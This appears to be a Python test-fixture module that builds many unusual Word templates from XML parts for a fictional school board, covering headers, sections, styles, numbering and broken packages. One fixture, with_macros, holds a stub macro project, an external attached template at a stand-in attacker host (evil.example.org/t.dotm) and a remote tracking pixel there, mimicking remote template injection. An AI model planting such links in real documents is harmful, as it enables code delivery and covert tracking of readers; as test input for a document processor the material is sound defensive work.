"""Word templates as boards really have them: every awkward one we know of, made from parts."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
NS = (
    f'xmlns:w="{WORD}" xmlns:r="{OFFICE}"'
    ' xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
    ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
    ' xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
DOCX = f"{WML}.document.main+xml"
DOTX = f"{WML}.template.main+xml"
DOTM = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
KINDS = {
    "header": f"{WML}.header+xml",
    "footer": f"{WML}.footer+xml",
    "styles": f"{WML}.styles+xml",
    "numbering": f"{WML}.numbering+xml",
    "settings": f"{WML}.settings+xml",
    "comments": f"{WML}.comments+xml",
    "footnotes": f"{WML}.footnotes+xml",
    "fontTable": f"{WML}.fontTable+xml",
    "theme": "application/vnd.openxmlformats-officedocument.theme+xml",
}


def png(width: int = 60, height: int = 20, colour: tuple[int, int, int] = (90, 30, 110)) -> bytes:
    """Give a picture of one colour."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    rows = (b"\0" + bytes(colour) * width) * height
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


@dataclass
class Package:
    """A Word file on the way, part by part."""

    main: str = DOCX
    body: str = ""
    section: str = ""
    parts: dict[str, bytes | str] = field(default_factory=dict[str, bytes | str])
    kinds: dict[str, str] = field(default_factory=dict[str, str])
    relations: list[tuple[str, str, str, bool]] = field(
        default_factory=list[tuple[str, str, str, bool]]
    )
    beside: dict[str, str] = field(default_factory=dict[str, str])
    """The relations of other parts, as text."""
    document: str = "word/document.xml"

    def put(self, kind: str, text: str | bytes, name: str = "", key: str = "") -> str:
        """Put in a part that the document leads to; give the relation's id."""
        name = name or f"{kind}.xml"
        key = key or f"rId{len(self.relations) + 1}"
        self.parts[f"word/{name}"] = text
        if kind in KINDS:
            self.kinds[f"word/{name}"] = KINDS[kind]
        self.relations.append((key, f"{OFFICE}/{kind}", name, False))
        return key

    def outside(self, kind: str, target: str) -> str:
        """Lead to something outside the package."""
        key = f"rId{len(self.relations) + 1}"
        self.relations.append((key, f"{OFFICE}/{kind}", target, True))
        return key

    def head(self, kind: str, inner: str, slot: str = "default", beside: str = "") -> None:
        """Put in a header or a footer for a slot of the last section."""
        n = sum(name.startswith(f"word/{kind}") for name in self.parts) + 1
        tag = "hdr" if kind == "header" else "ftr"
        key = self.put(kind, f"{HEAD}<w:{tag} {NS}>{inner}</w:{tag}>", f"{kind}{n}.xml")
        if beside:
            self.beside[f"word/_rels/{kind}{n}.xml.rels"] = beside
        self.section = f'<w:{kind}Reference w:type="{slot}" r:id="{key}"/>' + self.section

    def data(self) -> bytes:
        """Give the file."""
        stream = io.BytesIO()
        document = (
            f"{HEAD}<w:document {NS}><w:body>{self.body}"
            + (f"<w:sectPr>{self.section}</w:sectPr>" if self.section else "")
            + "</w:body></w:document>"
        )
        folder, _, name = self.document.rpartition("/")
        entries = "".join(
            f'<Relationship Id="{key}" Type="{kind}" Target="{target}"'
            f"{' TargetMode=' + chr(34) + 'External' + chr(34) if outside else ''}/>"
            for key, kind, target, outside in self.relations
        )
        overrides = "".join(
            f'<Override PartName="/{part}" ContentType="{kind}"/>'
            for part, kind in {self.document: self.main, **self.kinds}.items()
        )
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
            package.writestr(
                "[Content_Types].xml",
                f'{HEAD}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels"'
                ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                '<Default Extension="png" ContentType="image/png"/>'
                f'<Default Extension="bin" ContentType="application/octet-stream"/>{overrides}'
                "</Types>",
            )
            package.writestr("_rels/.rels", _rels(("rId1", "officeDocument", self.document)))
            package.writestr(self.document, document)
            package.writestr(
                f"{folder}/_rels/{name}.rels",
                f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{entries}</Relationships>',
            )
            for part, text in {**self.parts, **self.beside}.items():
                package.writestr(part, text)
        return stream.getvalue()


def _rels(*entries: tuple[str, str, str]) -> str:
    inner = "".join(
        f'<Relationship Id="{key}" Type="{OFFICE}/{kind}" Target="{target}"/>'
        for key, kind, target in entries
    )
    return f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{inner}</Relationships>'


def p(text: str = "", style: str = "", more: str = "") -> str:
    """Give a paragraph."""
    properties = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    run = f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>' if text else ""
    return f"<w:p>{properties}{run}{more}</w:p>"


def picture(key: str, n: int = 1, width: int = 1_800_000, height: int = 600_000) -> str:
    """Give a run with a picture."""
    return (
        '<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
        f'<wp:extent cx="{width}" cy="{height}"/><wp:docPr id="{n}" name="Picture {n}"'
        ' descr="The mark of the board"/><a:graphic><a:graphicData uri="http://schemas.openxml'
        'formats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="m"/>'
        f'<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="{key}"/><a:stretch>'
        "<a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="
        f'"0" y="0"/><a:ext cx="{width}" cy="{height}"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/>'
        "</a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>"
        "</w:r>"
    )


def field_run(code: str) -> str:
    """Give a field as Word writes it."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        f' {code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1'
        '</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def watermark(word: str) -> str:
    """Give a mark across the page."""
    return (
        '<w:r><w:pict><v:shapetype id="_x0000_t136" coordsize="21600,21600" o:spt="136"'
        ' path="m@7,l@8,m@5,21600l@6,21600e"><v:path textpathok="t"/><v:textpath on="t"/>'
        '</v:shapetype><v:shape id="PowerPlusWaterMarkObject1" o:spid="_x0000_s2049"'
        ' type="#_x0000_t136" style="position:absolute;margin-left:0;margin-top:0;width:420pt;'
        "height:140pt;rotation:315;z-index:-251658752;mso-position-horizontal:center;"
        "mso-position-horizontal-relative:margin;mso-position-vertical:center;"
        'mso-position-vertical-relative:margin" fillcolor="#c9d7f0" stroked="f">'
        f'<v:textpath style="font-family:&quot;Arial&quot;" string="{word}"/></v:shape></w:pict>'
        "</w:r>"
    )


A4 = (
    '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="2268" w:right="1134" w:bottom="1701"'
    ' w:left="1701" w:header="567" w:footer="567" w:gutter="0"/>'
)


def style(
    key: str, name: str, kind: str = "paragraph", inner: str = "", based: str = "Normal"
) -> str:
    """Give a style."""
    base = f'<w:basedOn w:val="{based}"/>' if based else ""
    return (
        f'<w:style w:type="{kind}" w:styleId="{key}"><w:name w:val="{name}"/>{base}'
        f"<w:qFormat/>{inner}</w:style>"
    )


def sized(half_points: int, colour: str, more: str = "") -> str:
    """Give how the letters of a heading are set."""
    return (
        f'<w:rPr><w:b/><w:color w:val="{colour}"/><w:sz w:val="{half_points}"/>'
        f'<w:szCs w:val="{half_points}"/>{more}</w:rPr>'
    )


DEFAULTS = (
    '<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi"'
    ' w:hAnsiTheme="minorHAnsi" w:eastAsiaTheme="minorHAnsi" w:cstheme="minorBidi"/>'
    '<w:sz w:val="22"/><w:szCs w:val="22"/><w:lang w:val="en-US" w:eastAsia="en-US"'
    ' w:bidi="ar-SA"/></w:rPr></w:rPrDefault><w:pPrDefault><w:pPr><w:spacing w:after="160"'
    ' w:line="259" w:lineRule="auto"/></w:pPr></w:pPrDefault></w:docDefaults>'
)

ROOTS = (
    '<w:style w:type="paragraph" w:default="1" w:styleId="{normal}"><w:name w:val="{name}"/>'
    "<w:qFormat/></w:style>"
    '<w:style w:type="character" w:default="1" w:styleId="{letters}"><w:name w:val="Default'
    ' Paragraph Font"/><w:uiPriority w:val="1"/></w:style>'
    '<w:style w:type="table" w:default="1" w:styleId="{table}"><w:name w:val="Normal Table"/>'
    '<w:uiPriority w:val="99"/><w:tblPr><w:tblInd w:w="0" w:type="dxa"/><w:tblCellMar>'
    '<w:top w:w="0" w:type="dxa"/><w:left w:w="108" w:type="dxa"/><w:bottom w:w="0"'
    ' w:type="dxa"/><w:right w:w="108" w:type="dxa"/></w:tblCellMar></w:tblPr></w:style>'
)


def roots(
    normal: str = "Normal",
    name: str = "Normal",
    letters: str = "DefaultParagraphFont",
    table: str = "TableNormal",
) -> str:
    """Give the styles that everything is based on."""
    return ROOTS.format(normal=normal, name=name, letters=letters, table=table)


PLUM = "6A1B5D"


def headings(count: int = 3, based: str = "Normal") -> str:
    """Give the headings of a board in plum."""
    return "".join(
        style(
            f"Heading{n}",
            f"heading {n}",
            inner='<w:pPr><w:keepNext/><w:spacing w:before="240" w:after="60"/>'
            f'<w:outlineLvl w:val="{n - 1}"/></w:pPr>' + sized(34 - 4 * n, PLUM),
            based=based,
        )
        for n in range(1, count + 1)
    )


def styles(inner: str, defaults: str = DEFAULTS) -> str:
    """Give the part with styles."""
    return f"{HEAD}<w:styles {NS}>{defaults}{inner}</w:styles>"


def theme() -> str:
    """Give a theme with fonts and colours."""
    colours = "".join(
        f'<a:{name}><a:srgbClr val="{value}"/></a:{name}>'
        for name, value in (
            ("dk1", "000000"),
            ("lt1", "FFFFFF"),
            ("dk2", PLUM),
            ("lt2", "EEEEEE"),
            *((f"accent{n}", PLUM) for n in range(1, 7)),
            ("hlink", "0000EE"),
            ("folHlink", "551A8B"),
        )
    )
    fonts = "".join(
        f'<a:{kind}><a:latin typeface="{face}"/><a:ea typeface=""/><a:cs typeface=""/></a:{kind}>'
        for kind, face in (("majorFont", "Georgia"), ("minorFont", "Georgia"))
    )
    fill = '<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>'
    line = f'<a:ln w="6350">{fill}</a:ln>'
    effect = "<a:effectStyle><a:effectLst/></a:effectStyle>"
    return (
        f'{HEAD}<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="B">'
        f'<a:themeElements><a:clrScheme name="B">{colours}</a:clrScheme><a:fontScheme name="B">'
        f'{fonts}</a:fontScheme><a:fmtScheme name="B"><a:fillStyleLst>{fill * 3}</a:fillStyleLst>'
        f"<a:lnStyleLst>{line * 3}</a:lnStyleLst><a:effectStyleLst>{effect * 3}"
        f"</a:effectStyleLst><a:bgFillStyleLst>{fill * 3}</a:bgFillStyleLst></a:fmtScheme>"
        "</a:themeElements></a:theme>"
    )


SETTINGS = (
    f'{HEAD}<w:settings {NS}>{{before}}<w:zoom w:percent="100"/>{{middle}}'
    '<w:compat><w:compatSetting w:name="compatibilityMode"'
    ' w:uri="http://schemas.microsoft.com/office/word" w:val="15"/></w:compat></w:settings>'
)


def settings(middle: str = "", before: str = "") -> str:
    """Give the part with settings."""
    return SETTINGS.format(before=before, middle=middle)


def letterhead(main: str = DOCX, headings_xml: str = "", more_styles: str = "") -> Package:
    """Give a board's letterhead: mark and address at the head, page numbers at the foot."""
    made = Package(main, section=A4)
    made.put("styles", styles(roots() + (headings_xml or headings()) + more_styles))
    made.put("settings", settings())
    made.put("theme", theme(), "theme/theme1.xml")
    made.parts["word/media/mark.png"] = png()
    beside = _rels(("rId1", "image", "media/mark.png"))
    text = p("Quayside Learning Partnership", more=picture("rId1"))
    made.head("header", text + p("12 Slip Road, Quayside"), beside=beside)
    made.head("footer", p("Registered in Quayside. Page ", more=field_run("PAGE")))
    return made


def bare() -> Package:
    """Give a template with next to nothing: no lists, no theme, no fonts, no headings."""
    made = Package(section='<w:pgSz w:w="11906" w:h="16838"/>')
    made.put("styles", styles(roots(), defaults=""))
    return made


def no_styles() -> Package:
    """Give a file with a document and nothing else, not even a page."""
    return Package(body=p("Nothing but words."))


def other_first_page() -> Package:
    """Give a letterhead on the first page alone, and a quiet line on the others."""
    made = letterhead(DOTX)
    made.section += "<w:titlePg/>"
    made.parts["word/header1.xml"] = f"{HEAD}<w:hdr {NS}>{p('Quayside papers')}</w:hdr>"
    del made.beside["word/_rels/header1.xml.rels"]
    made.head(
        "header",
        p("Quayside Learning Partnership", more=picture("rId1")),
        "first",
        _rels(("rId1", "image", "media/mark.png")),
    )
    made.head("footer", p("12 Slip Road, Quayside"), "first")
    return made


def first_page_without_header() -> Package:
    """Give a template whose first page is to be another, and has no header at all."""
    made = letterhead()
    made.section += "<w:titlePg/>"
    return made


def even_and_odd() -> Package:
    """Give other headers to pages at the left and at the right."""
    made = letterhead()
    made.parts["word/settings.xml"] = settings("<w:evenAndOddHeaders/>")
    made.head("header", p("Even pages of Quayside"), "even")
    return made


def several_sections() -> Package:
    """Give a cover, a part turned on its side, and last pages that go on with their headers."""
    made = letterhead()
    made.body = (
        p("A cover of another time")
        + f"<w:p><w:pPr><w:sectPr>{made.section}<w:titlePg/></w:sectPr></w:pPr></w:p>"
        + '<w:p><w:pPr><w:sectPr><w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/>'
        '<w:pgMar w:top="1134" w:right="1134" w:bottom="1134" w:left="1134" w:header="567"'
        ' w:footer="567" w:gutter="0"/></w:sectPr></w:pPr></w:p>'
    )
    made.section = f'<w:type w:val="continuous"/>{A4}<w:pgNumType w:start="7"/>'
    return made


def landscape() -> Package:
    """Give pages turned on their side, in two columns, with a gutter."""
    made = letterhead()
    made.section = made.section.replace(
        A4,
        '<w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/><w:pgMar w:top="2268"'
        ' w:right="1134" w:bottom="1134" w:left="1134" w:header="567" w:footer="567"'
        ' w:gutter="284"/><w:cols w:num="2" w:space="567"/>',
    )
    return made


def lengths_with_units() -> Package:
    """Give a page measured in millimetres."""
    made = letterhead()
    made.section = made.section.replace('w:w="11906" w:h="16838"', 'w:w="210mm" w:h="29.7cm"')
    return made


def full_of_words() -> Package:
    """Give a paper of last year, used as a template as it was: words, comments, notes, changes."""
    made = letterhead()
    made.put(
        "comments",
        f'{HEAD}<w:comments {NS}><w:comment w:id="0" w:author="A">'
        f"{p('Is Mrs Oldroyd to be named?')}</w:comment></w:comments>",
    )
    made.put(
        "footnotes",
        f'{HEAD}<w:footnotes {NS}><w:footnote w:type="separator" w:id="-1">'
        "<w:p><w:r><w:separator/></w:r></w:p></w:footnote>"
        '<w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r>'
        "<w:continuationSeparator/></w:r></w:p></w:footnote>"
        f'<w:footnote w:id="1">{p("Mrs Oldroyd said so in private.")}</w:footnote></w:footnotes>',
    )
    made.body = (
        p("Minutes about Mrs Oldroyd", "Heading1")
        + '<w:p><w:ins w:id="5" w:author="A"><w:r><w:t>Mrs Oldroyd came in.</w:t></w:r></w:ins>'
        '<w:r><w:footnoteReference w:id="1"/></w:r>'
        '<w:bookmarkStart w:id="1" w:name="_min_p1"/><w:bookmarkEnd w:id="1"/></w:p>'
        f'<w:tbl><w:tblPr><w:tblW w:w="0" w:type="auto"/></w:tblPr><w:tblGrid><w:gridCol'
        f' w:w="4000"/></w:tblGrid><w:tr><w:tc><w:tcPr/>{p("Oldroyd")}</w:tc></w:tr></w:tbl>'
    )
    return made


GERMAN = (
    ("berschrift1", "heading 1", 0),
    ("berschrift2", "heading 2", 1),
    ("berschrift3", "heading 3", 2),
)


def german_word() -> Package:
    """Give a template of a German Word: names as everywhere, ids in German."""
    made = letterhead(DOTX)
    text = roots("Standard", "Normal", "Absatz-Standardschriftart", "NormaleTabelle")
    for key, name, level in GERMAN:
        text += style(
            key,
            name,
            inner=f'<w:pPr><w:outlineLvl w:val="{level}"/></w:pPr>' + sized(30 - 2 * level, PLUM),
            based="Standard",
        )
    text += style("Titel", "Title", inner=sized(48, PLUM), based="Standard")
    text += style("Kopfzeile", "header", based="Standard")
    text += style(
        "Textkrper", "Body Text", inner='<w:pPr><w:jc w:val="both"/></w:pPr>', based="Standard"
    )
    defaults = DEFAULTS.replace("en-US", "de-DE")
    made.parts["word/styles.xml"] = styles(text, defaults)
    return made


def names_in_german() -> Package:
    """Give a template of a program that writes the names of styles in its own language."""
    made = letterhead(DOTX)
    text = roots("Standard", "Standard")
    for n in (1, 2, 3):
        text += style(
            f"U{n}",
            f"Überschrift {n}",
            inner=f'<w:pPr><w:outlineLvl w:val="{n - 1}"/></w:pPr>' + sized(32 - 4 * n, PLUM),
            based="Standard",
        )
    made.parts["word/styles.xml"] = styles(text)
    return made


def level(n: int, text: str, tie: str = "", count: str = "decimal") -> str:
    """Give a level of a list."""
    tied = f'<w:pStyle w:val="{tie}"/>' if tie else ""
    return (
        f'<w:lvl w:ilvl="{n}"><w:start w:val="1"/><w:numFmt w:val="{count}"/>{tied}'
        f'<w:lvlText w:val="{text}"/><w:lvlJc w:val="left"/><w:pPr><w:ind w:left="{567 * (n + 1)}"'
        ' w:hanging="567"/></w:pPr></w:lvl>'
    )


def numbered_headings() -> Package:
    """Give headings with numbers of their own, and lists with high ids."""
    made = letterhead()
    listed = "".join(
        style(
            f"Heading{n}",
            f"heading {n}",
            inner="<w:pPr><w:keepNext/><w:numPr>"
            + (f'<w:ilvl w:val="{n - 1}"/>' if n > 1 else "")
            + f'<w:numId w:val="40"/></w:numPr><w:outlineLvl w:val="{n - 1}"/></w:pPr>'
            + sized(34 - 4 * n, PLUM),
        )
        for n in (1, 2, 3)
    )
    bullets = style(
        "ListBullet",
        "List Bullet",
        inner='<w:pPr><w:numPr><w:numId w:val="41"/></w:numPr><w:contextualSpacing/></w:pPr>',
    )
    made.parts["word/styles.xml"] = styles(roots() + listed + bullets)
    shapes = (
        '<w:abstractNum w:abstractNumId="7"><w:multiLevelType w:val="multilevel"/>'
        + "".join(
            level(n, "Part " + ".".join(f"%{k + 1}" for k in range(n + 1)), f"Heading{n + 1}")
            for n in range(3)
        )
        + '</w:abstractNum><w:abstractNum w:abstractNumId="9"><w:multiLevelType'
        ' w:val="hybridMultilevel"/>' + level(0, "→", "ListBullet", "bullet") + "</w:abstractNum>"
    )
    nums = (
        '<w:num w:numId="40"><w:abstractNumId w:val="7"/></w:num>'
        '<w:num w:numId="41"><w:abstractNumId w:val="9"/></w:num>'
        '<w:numIdMacAtCleanup w:val="3"/>'
    )
    made.put("numbering", f"{HEAD}<w:numbering {NS}>{shapes}{nums}</w:numbering>")
    return made


def names_taken() -> Package:
    """Give styles with our names and ids that are something else."""
    more = (
        style("Outcome", "Outcome", "character", sized(22, PLUM), "DefaultParagraphFont")
        + style("MinuteItem", "Red Letter Day", inner=sized(60, "FF0000"))
        + style("TableText", "Table Text", "table", based="TableNormal")
        + style("Loop1", "Loop 1", based="Loop2")
        + style("Loop2", "Person", based="Loop1")
        + style("BodyText", "Body Text", inner='<w:pPr><w:ind w:firstLine="720"/></w:pPr>')
    )
    return letterhead(more_styles=more)


def with_a_title() -> Package:
    """Give a template with a title, and no heading but the first."""
    title = style("Title", "Title", inner=sized(56, "0B6E4F"))
    return letterhead(headings_xml=headings(1), more_styles=title)


def own_styles() -> Package:
    """Give a template with the board's own names for its styles."""
    more = (
        style("QTitle", "Quayside Title", inner=sized(52, "0B6E4F"))
        + style(
            "QHead",
            "Quayside Heading",
            inner='<w:pPr><w:outlineLvl w:val="0"/></w:pPr>' + sized(30, "0B6E4F"),
        )
        + style("QText", "Quayside Text", inner='<w:rPr><w:color w:val="203040"/></w:rPr>')
        + style(
            "QTable",
            "Quayside Table",
            "table",
            '<w:tblPr><w:tblBorders><w:insideH w:val="single" w:sz="8" w:space="0"'
            ' w:color="0B6E4F"/></w:tblBorders></w:tblPr><w:tblStylePr w:type="firstRow"><w:rPr>'
            '<w:color w:val="FFFFFF"/></w:rPr><w:tcPr><w:shd w:val="clear" w:color="auto"'
            ' w:fill="0B6E4F"/></w:tcPr></w:tblStylePr>',
            "TableNormal",
        )
    )
    return letterhead(more_styles=more)


STORE = "{11111111-2222-3333-4444-555555555555}"


def content_controls() -> Package:
    """Give a header that is one content control, filled from data in the file."""
    made = letterhead()
    made.parts["word/header1.xml"] = (
        f'{HEAD}<w:hdr {NS}><w:sdt><w:sdtPr><w:alias w:val="Board"/><w:id w:val="77"/>'
        '<w:placeholder><w:docPart w:val="DefaultPlaceholder"/></w:placeholder>'
        '<w:dataBinding w:xpath="/board/name" w:storeItemID="' + STORE + '"/><w:text/></w:sdtPr>'
        f"<w:sdtContent>{p('Quayside Learning Partnership')}</w:sdtContent></w:sdt></w:hdr>"
    )
    del made.beside["word/_rels/header1.xml.rels"]
    made.parts["customXml/item1.xml"] = "<board><name>Quayside Learning Partnership</name></board>"
    made.parts["customXml/itemProps1.xml"] = (
        f'{HEAD}<ds:datastoreItem ds:itemID="{STORE}" xmlns:ds="http://schemas.openxmlformats.org/'
        'officeDocument/2006/customXml"><ds:schemaRefs/></ds:datastoreItem>'
    )
    made.kinds["customXml/itemProps1.xml"] = (
        "application/vnd.openxmlformats-officedocument.customXmlProperties+xml"
    )
    made.relations.append(("rId50", f"{OFFICE}/customXml", "../customXml/item1.xml", False))
    made.beside["customXml/_rels/item1.xml.rels"] = _rels(
        ("rId1", "customXmlProps", "itemProps1.xml")
    )
    return made


def marked(word: str = "OFFICIAL") -> Package:
    """Give a template with a mark of its own across its pages."""
    made = letterhead()
    made.parts["word/header1.xml"] = (
        f"{HEAD}<w:hdr {NS}>{p('Quayside Learning Partnership', more=watermark(word))}</w:hdr>"
    )
    del made.beside["word/_rels/header1.xml.rels"]
    return made


def marked_draft() -> Package:
    """Give a template that somebody saved while it was marked as a draft."""
    return marked("Draft")


def broken_relations() -> Package:
    """Give a template that lost half of what it leads to."""
    made = letterhead()
    made.beside["word/_rels/header1.xml.rels"] = _rels(("rId1", "image", "media/gone.png"))
    made.parts["word/header1.xml"] = (
        f"{HEAD}<w:hdr {NS}>"
        + p("Quayside Learning Partnership", more=picture("rId1") + picture("rId77", 2))
        + '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>quayside.example.org</w:t></w:r></w:hyperlink>'
        + "</w:p></w:hdr>"
    )
    made.relations += [
        ("rId60", f"{OFFICE}/header", "header9.xml", False),
        ("rId61", f"{OFFICE}/printerSettings", "printer.bin", False),
        ("rId62", f"{OFFICE}/customXml", "../customXml/item4.xml", False),
    ]
    made.section = (
        '<w:headerReference w:type="even" r:id="rId60"/>'
        '<w:footerReference w:type="first" r:id="rId99"/>' + made.section
    )
    return made


def with_macros(main: str = DOTM) -> Package:
    """Give a template with macros, a ribbon of its own, another template and a mail merge."""
    made = letterhead(main)
    made.parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 AutoOpen"
    made.kinds["word/vbaProject.bin"] = "application/vnd.ms-office.vbaProject"
    made.relations.append(
        (
            "rId70",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin",
            False,
        )
    )
    made.parts["word/settings.xml"] = settings(
        '<w:attachedTemplate r:id="rId1"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        '<w:dataType w:val="native"/><w:dataSource r:id="rId2"/></w:mailMerge>'
        '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
    )
    made.beside["word/_rels/settings.xml.rels"] = (
        f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate"'
        ' Target="https://evil.example.org/t.dotm" TargetMode="External"/>'
        f'<Relationship Id="rId2" Type="{OFFICE}/mailMergeSource"'
        ' Target="file:///C:/people.xlsx" TargetMode="External"/></Relationships>'
    )
    made.beside["word/_rels/header1.xml.rels"] = (
        f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/image"'
        ' Target="https://evil.example.org/pixel.png" TargetMode="External"/></Relationships>'
    )
    return made


def macro_document() -> Package:
    """Give the same as a document."""
    return with_macros(DOCM)


def other_letters() -> Package:
    """Give a document whose writer calls Word's namespace by another letter."""
    return letterhead()


def table_letterhead() -> Package:
    """Give a header that is one table, and a footer that counts no pages."""
    made = letterhead()
    table = (
        '<w:tbl><w:tblPr><w:tblW w:w="9000" w:type="dxa"/></w:tblPr><w:tblGrid><w:gridCol'
        ' w:w="4500"/><w:gridCol w:w="4500"/></w:tblGrid><w:tr>'
        + "".join(f"<w:tc><w:tcPr/>{p(text)}</w:tc>" for text in ("Quayside", "Slip Road"))
        + "</w:tr></w:tbl>"
    )
    made.parts["word/header1.xml"] = f"{HEAD}<w:hdr {NS}>{table}{p()}</w:hdr>"
    made.parts["word/footer1.xml"] = f"{HEAD}<w:ftr {NS}>{p('Registered in Quayside')}</w:ftr>"
    del made.beside["word/_rels/header1.xml.rels"]
    return made


def oddly_laid() -> Package:
    """Give a package with its document in another place."""
    made = letterhead()
    made.document = "word/document2.xml"
    return made


def empty_headers() -> Package:
    """Give a template with styles alone: its header and footer are there, and empty."""
    made = Package(DOTX, section=A4)
    made.put("styles", styles(roots() + headings()))
    made.head("header", p())
    made.head("footer", p())
    return made


TEMPLATES: dict[str, Callable[[], Package]] = {
    made.__name__.replace("_", " "): made
    for made in (
        letterhead,
        bare,
        no_styles,
        other_first_page,
        first_page_without_header,
        even_and_odd,
        several_sections,
        landscape,
        lengths_with_units,
        full_of_words,
        german_word,
        names_in_german,
        numbered_headings,
        names_taken,
        with_a_title,
        own_styles,
        content_controls,
        marked,
        marked_draft,
        broken_relations,
        with_macros,
        macro_document,
        other_letters,
        table_letterhead,
        oddly_laid,
        empty_headers,
    )
}
"""Every awkward template by its name."""


def template(name: str) -> bytes:
    """Give a template as a file."""
    data = TEMPLATES[name]().data()
    if name == "other letters":
        data = with_part(data, "word/document.xml", _other_letters)
    return data


def _other_letters(text: bytes) -> bytes:
    return (
        text.replace(b"<w:", b"<x:")
        .replace(b"</w:", b"</x:")
        .replace(b" w:", b" x:")
        .replace(b"xmlns:w=", b"xmlns:x=")
    )


def with_part(data: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """Give a package with one part changed."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.infolist():
            text = old.read(entry)
            new.writestr(entry.filename, change(text) if entry.filename == name else text)
    return stream.getvalue()
